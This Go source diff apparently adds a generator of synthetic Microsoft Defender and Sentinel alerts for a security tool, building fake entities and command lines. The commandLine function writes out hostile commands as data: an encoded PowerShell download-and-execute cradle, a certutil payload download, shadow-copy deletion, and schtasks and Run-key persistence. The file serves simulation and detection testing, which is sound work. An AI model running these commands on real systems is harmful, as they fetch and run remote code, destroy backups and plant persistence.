@@ -1,0 +1,320 @@
+package simulate
+
+import (
+	"encoding/base64"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/debrief-dev/debrief"
+)
+
+// product is how one product names itself in each export.
+type product struct {
+	key             string
+	name            string // debrief.Alert.Product, as the decoders name it
+	apiSource       string // Defender incidents API serviceSource
+	graphSource     string // Graph serviceSource
+	apiDetection    string // Defender incidents API detectionSource
+	graphDetection  string
+	idPrefix        string // how its alert ids start
+	sentinelProduct string // SecurityAlert ProductName
+}
+
+var productTable = []product{
+	{productEndpoint, "Microsoft Defender for Endpoint", "MicrosoftDefenderATP", "microsoftDefenderForEndpoint", "EDR", "edr", "da", "Microsoft Defender Advanced Threat Protection"},
+	{productEmail, "Microsoft Defender for Office 365", "OfficeATP", "microsoftDefenderForOffice365", "OfficeATP", "microsoftDefenderForOffice365", "fa", "Office 365 Advanced Threat Protection"},
+	{productIdentity, "Microsoft Entra ID Protection", "AzureAdIdentityProtection", "azureAdIdentityProtection", "AzureAdIdentityProtection", "azureAdIdentityProtection", "ad", "Azure Active Directory Identity Protection"},
+	{productDirectory, "Microsoft Defender for Identity", "AzureATP", "microsoftDefenderForIdentity", "AzureATP", "microsoftDefenderForIdentity", "aa", "Azure Advanced Threat Protection"},
+	{productCloudApp, "Microsoft Defender for Cloud Apps", "MicrosoftCloudAppSecurity", "microsoftDefenderForCloudApps", "MCAS", "microsoftDefenderForCloudApps", "ca", "Microsoft Cloud App Security"},
+}
+
+// productOfAlert finds the product table row of an alert by its product
+// name.
+func productOfAlert(a *debrief.Alert) *product {
+	for i := range productTable {
+		if productTable[i].name == a.Product {
+			return &productTable[i]
+		}
+	}
+	return &productTable[0]
+}
+
+func productByKey(key string) *product {
+	for i := range productTable {
+		if productTable[i].key == key {
+			return &productTable[i]
+		}
+	}
+	return &productTable[0]
+}
+
+// buildAlerts turns the plan's alert plans into debrief alerts with
+// Defender ids; the writers of other formats derive theirs from the same
+// sequence numbers.
+func (g *gen) buildAlerts(p *plan) {
+	p.built = make([]debrief.Alert, len(p.alerts))
+	incID := debrief.QualifiedID(debrief.SourceDefender, defenderIncidentID(p.seq))
+	for i := range p.alerts {
+		p.built[i] = g.buildAlert(p, &p.alerts[i], p.alertSeq+int64(i), incID)
+	}
+}
+
+func (g *gen) buildAlert(p *plan, ap *alertPlan, seq int64, incID string) debrief.Alert {
+	key := ap.techs[0].product
+	title := ap.techs[0].title
+	sev := severityOf(ap.tactic)
+	category := ap.tactic.camel
+	if p.noise != nil {
+		key, title, sev = p.noise.Product, p.noise.Title, p.noise.severity
+	}
+	pr := productByKey(key)
+	id := defenderAlertID(g.seed, seq, pr.idPrefix, ap.created)
+	a := debrief.Alert{
+		ID: debrief.QualifiedID(debrief.SourceDefender, id), Source: debrief.SourceDefender, SourceID: id, ProviderID: id,
+		IncidentID: incID, Product: pr.name, DetectionSource: pr.graphDetection, Severity: sev, Category: category,
+		FirstActivity: ap.activity, LastActivity: ap.activity.Add(time.Duration(g.r.IntN(300)) * time.Second),
+		Created: ap.created, Updated: ap.created,
+	}
+	if ap.soft != nil {
+		title = "'" + ap.soft.name + "' hacktool was detected"
+		if ap.soft.kind == "malware" {
+			title = "'" + ap.soft.name + "' malware was detected"
+			a.Category, a.ThreatNames = "Malware", []string{ap.soft.name}
+			a.DetectionSource = "antivirus"
+		}
+	}
+	a.Title, a.RuleName = title, title
+	a.RuleID = formatGUID(hashString(pr.key+"\x00"+title), hashString(title+"\x00rule"))
+	for _, t := range ap.techs {
+		a.Techniques = append(a.Techniques, debrief.Technique{ID: t.id, Name: t.name, Tactics: shortnames(t.tactics)})
+	}
+	a.Tactics = []string{ap.tactic.short}
+	a.Entities = g.entities(p, ap, key, &a)
+	a.Description = describe(&a, ap)
+	return a
+}
+
+func shortnames(ts []*tactic) []string {
+	out := make([]string, len(ts))
+	for i, t := range ts {
+		out[i] = t.short
+	}
+	return out
+}
+
+func describe(a *debrief.Alert, ap *alertPlan) string {
+	var b strings.Builder
+	b.WriteString(ap.techs[0].name)
+	b.WriteString(" (")
+	b.WriteString(string(ap.techs[0].id))
+	b.WriteString(") was observed")
+	for _, e := range a.Entities {
+		if e.Kind == debrief.EntityDevice {
+			b.WriteString(" on ")
+			b.WriteString(e.ID)
+			break
+		}
+		if e.Kind == debrief.EntityUser || e.Kind == debrief.EntityMailbox {
+			b.WriteString(" for ")
+			b.WriteString(e.ID)
+			break
+		}
+	}
+	if ap.soft != nil {
+		b.WriteString(", involving ")
+		b.WriteString(ap.soft.name)
+	}
+	b.WriteString(".")
+	return b.String()
+}
+
+// entities gives the alert the entities its product would show.
+func (g *gen) entities(p *plan, ap *alertPlan, key string, a *debrief.Alert) []debrief.Entity {
+	o := g.org
+	u, dev := g.subject(p, ap)
+	var es []debrief.Entity
+	switch key {
+	case productEndpoint:
+		es = append(es, o.devices[dev].entity, u)
+		es = g.endpointEntities(p, ap, dev, a, es)
+	case productEmail:
+		es = g.emailEntities(p, ap, es)
+	case productIdentity:
+		es = append(es, u, g.remoteIP(p), cloudApp(exchangeAppID, "Microsoft Exchange Online"))
+		if p.cl != nil && ap.techs[0].id == "T1528" {
+			es = append(es, cloudApp(p.cl.appID, p.cl.app))
+		}
+	case productDirectory:
+		dc := o.devices[pick(g.r, o.dcs)]
+		es = append(es, u, o.devices[dev].entity, dc.entity, ipEntity(o.devices[dev].ip, "related"))
+	case productCloudApp:
+		es = append(es, u, g.remoteIP(p), cloudApp(exchangeAppID, "Microsoft Exchange Online"))
+		if p.who >= 0 {
+			es = append(es, o.users[g.userOf(p, ap)].mailbox)
+		}
+	}
+	return es
+}
+
+// subject returns the user entity and the device index the alert is
+// about.
+func (g *gen) subject(p *plan, ap *alertPlan) (debrief.Entity, int) {
+	o := g.org
+	if p.noise != nil && p.who < 0 {
+		if ap.target == targetServer {
+			return o.service, p.server
+		}
+		return o.service, p.host
+	}
+	ui := g.userOf(p, ap)
+	dev := o.users[ui].device
+	if p.noise != nil {
+		dev = p.host
+	}
+	if ap.target == targetServer {
+		dev = p.server
+	}
+	return o.users[ui].entity, dev
+}
+
+func (g *gen) userOf(p *plan, ap *alertPlan) int {
+	switch {
+	case p.noise != nil:
+		return max(p.who, 0)
+	case ap.target == targetSecond:
+		return p.second
+	}
+	return p.victim
+}
+
+// remoteIP is the attacker's address, or a benign one for noise.
+func (g *gen) remoteIP(p *plan) debrief.Entity {
+	if p.cl == nil {
+		return ipEntity(pick(g.r, g.benignIPs), "related")
+	}
+	return ipEntity(pick(g.r, p.cl.ips), "attacker")
+}
+
+// exchangeAppID is Exchange Online's app id in Defender for Cloud Apps.
+const exchangeAppID = "20893"
+
+func cloudApp(id, name string) debrief.Entity {
+	return debrief.Entity{Kind: debrief.EntityCloudApp, ID: id, Name: name}
+}
+
+func (g *gen) emailEntities(p *plan, ap *alertPlan, es []debrief.Entity) []debrief.Entity {
+	o, r := g.org, g.r
+	rcpt := o.users[g.userOf(p, ap)]
+	sender, subject, ip := "newsletter@"+o.domain, "Security awareness exercise", ""
+	if p.cl != nil {
+		sender, subject, ip = pick(r, p.cl.senders), pick(r, p.cl.subjects), pick(r, p.cl.ips)
+		if ap.techs[0].id == "T1534" {
+			sender = o.users[p.victim].upn
+		}
+	}
+	msgID := r.guid()
+	es = append(es, rcpt.mailbox, debrief.Entity{Kind: debrief.EntityMailMessage, ID: msgID, Name: subject,
+		Attributes: map[string]string{"sender": sender, "recipient": rcpt.upn, "subject": subject, "delivery_action": "Delivered",
+			"sender_ip": ip}})
+	switch {
+	case p.cl == nil:
+		es = append(es, urlEntity("https://training."+o.domain+"/phish-sim/"+r.hex(4)))
+	case ap.techs[0].id == "T1566.001":
+		es = append(es, p.cl.file(nil, ap.activity).entity)
+	default:
+		es = append(es, urlEntity(p.cl.url()))
+	}
+	if ip != "" {
+		es = append(es, ipEntity(ip, "attacker"))
+	}
+	return es
+}
+
+// endpointEntities adds the process, file, registry and network entities
+// of an endpoint alert.
+func (g *gen) endpointEntities(p *plan, ap *alertPlan, dev int, a *debrief.Alert, es []debrief.Entity) []debrief.Entity {
+	o, r := g.org, g.r
+	t := ap.techs[0]
+	image, path, sha := t.image, `C:\Windows\System32\`, lolbinHash(t.image)
+	var f *artefact
+	if p.noise != nil && p.noise.Process != "" {
+		image = p.noise.Process
+	}
+	if p.cl != nil && (ap.soft != nil || r.prob(0.3)) {
+		f = p.cl.file(ap.soft, ap.activity)
+		image, path, sha = f.name, f.path, f.sha256
+		if f.threatFamily != "" && len(a.ThreatNames) == 0 {
+			a.ThreatNames = []string{f.threatFamily}
+		}
+	}
+	host := o.devices[dev].host
+	pid := strconv.Itoa(1000 + r.IntN(30000))
+	created := ap.activity.Add(-time.Duration(r.IntN(120)) * time.Second).UTC().Format(time.RFC3339Nano)
+	es = append(es, debrief.Entity{Kind: debrief.EntityProcess, ID: host + ":" + pid + ":" + created, Name: image,
+		Attributes: map[string]string{"command_line": g.commandLine(p, t, image, path), "pid": pid,
+			"parent_pid": strconv.Itoa(500 + r.IntN(9000)), "parent_image": parentImage(t), "image": path + image,
+			"device_id": o.devices[dev].entity.Attributes["device_id"], "created": created, "sha256": sha}})
+	if f != nil {
+		es = append(es, f.entity)
+	}
+	if id := string(t.id); id == "T1547.001" || id == "T1112" {
+		es = append(es, debrief.Entity{Kind: debrief.EntityRegistry,
+			ID: `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
+			Attributes: map[string]string{"key": `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run`,
+				"hive": "HKEY_CURRENT_USER", "value_name": "Updater", "value": path + image, "value_type": "String"}})
+	}
+	if p.cl != nil && (t.tactics[0].short == "command-and-control" || t.tactics[0].short == "exfiltration" || t.id == "T1105") {
+		es = append(es, ipEntity(pick(r, p.cl.ips), "attacker"))
+	}
+	return es
+}
+
+func parentImage(t *technique) string {
+	switch t.tactics[0].short {
+	case "initial-access", "execution":
+		return "explorer.exe"
+	case "persistence", "privilege-escalation":
+		return "services.exe"
+	}
+	return "cmd.exe"
+}
+
+// lolbinHash is a fixed stand-in hash for a system binary.
+func lolbinHash(image string) string {
+	h := hashString(strings.ToLower(image))
+	var b strings.Builder
+	for i := range 4 {
+		b.WriteString(strconv.FormatUint(mix64(h+uint64(i))|1<<63, 16))
+	}
+	return b.String()
+}
+
+// commandLine makes a plausible command line for the technique.
+func (g *gen) commandLine(p *plan, t *technique, image, path string) string {
+	r := g.r
+	domain := "updates." + g.org.domain
+	if p.cl != nil {
+		domain = pick(r, p.cl.domains)
+	}
+	switch strings.ToLower(image) {
+	case "powershell.exe":
+		payload := base64.StdEncoding.EncodeToString([]byte("IEX (New-Object Net.WebClient).DownloadString('https://" + domain + "/" + r.hex(3) + "')"))
+		return "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " + payload
+	case "cmd.exe":
+		return "cmd.exe /c " + pick(r, []string{"whoami /all", "net group \"domain admins\" /domain", "ipconfig /all", "dir C:\\Users"})
+	case "certutil.exe":
+		return "certutil.exe -urlcache -split -f https://" + domain + "/" + r.hex(3) + ".exe C:\\Users\\Public\\" + r.hex(3) + ".exe"
+	case "schtasks.exe":
+		return `schtasks.exe /create /tn "OneDrive Updater" /tr "C:\ProgramData\` + r.hex(3) + `.exe" /sc onlogon /f`
+	case "reg.exe":
+		return `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d "C:\ProgramData\` + r.hex(3) + `.exe" /f`
+	case "psexec.exe":
+		return `PsExec.exe \\` + g.org.devices[p.server].host + ` -s cmd.exe /c ipconfig`
+	case "vssadmin.exe":
+		return "vssadmin.exe delete shadows /all /quiet"
+	case "wmic.exe":
+		return `wmic.exe /node:` + g.org.devices[p.server].host + ` process call create "cmd.exe /c whoami"`
+	}
+	return `"` + path + image + `" ` + strings.ToLower(strings.ReplaceAll(t.name, " ", "-"))
+}
